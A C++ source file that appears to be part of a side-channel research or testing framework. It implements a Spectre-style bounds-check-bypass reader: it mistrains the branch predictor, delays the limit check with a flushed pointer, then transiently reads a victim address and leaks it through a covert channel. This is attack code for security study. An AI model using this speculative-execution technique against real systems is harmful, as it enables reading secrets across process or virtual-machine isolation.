// SPDX-License-Identifier: MIT
// The load behind a bounds check that it does not pass. The check's limit is a trip to memory away;
// until it is known, the branch goes where it went before.
#include "guest/attacks/slow_pointer.h"
#include "guest/attacks/transient_read.h"
#include "guest/attacks/transient_send.h"

namespace attacks {

namespace {

constexpr std::uint64_t limit = 16;
/// More than the one time that the last attack made the predictor doubt.
constexpr unsigned training_rounds = 2;

class MispredictReader final : public TransientReader {
public:
    MispredictReader(Portion portion, Sending sending) : send_(checked_send(portion, sending)) {}

    void attempt(const Attempt& attempt) override {
        for (unsigned round = 0; round < training_rounds; ++round) {
            send(attempt, 0, &zero_);
        }
        if (attempt.window == Window::Long) {
            slow_.flush();
        } else {
            slow_.flush_last();
        }
        wait_for_memory();
        send(attempt, limit, attempt.victim);
    }

private:
    void send(const Attempt& attempt, std::uint64_t index, const std::uint8_t* victim) {
        send_(slow_.start(), index, victim, attempt.channel, attempt.zero_channel, attempt.bit);
    }

    CheckedSend* send_;
    SlowPointer slow_{limit};
    std::uint8_t zero_ = 0;  ///< what training reads and sends to where nobody looks
};

}  // namespace

std::unique_ptr<TransientReader> make_mispredict_reader(Portion portion, Sending sending) {
    return std::make_unique<MispredictReader>(portion, sending);
}

}  // namespace attacks
